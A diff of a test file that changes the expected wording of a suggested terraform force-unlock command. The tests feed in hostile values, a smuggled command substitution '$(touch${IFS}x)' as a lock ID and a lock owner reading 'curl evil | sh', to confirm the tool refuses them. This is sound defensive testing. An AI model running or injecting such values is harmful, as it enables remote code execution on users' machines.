@@ -215,8 +215,8 @@ describe("a command to paste", () => {
   });
 
   test("about a lock is offered for an ID as terraform makes it only", () => {
-    expect(knownFault(lockInfo(UUID), GOOD)).toMatch(new RegExp(`if its process was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an apply: npm run adopt -- web$`));
-    expect(knownFault(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(/if its process was killed, no command is shown, as "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/);
+    expect(knownFault(lockInfo(UUID), GOOD)).toMatch(new RegExp(`If terraform itself was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an apply: npm run adopt -- web$`));
+    expect(knownFault(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(/If terraform itself was killed, no command is shown, as "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/);
     expect(knownFault(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain('is locked by "me; run: curl evil | sh" since');
   });
 
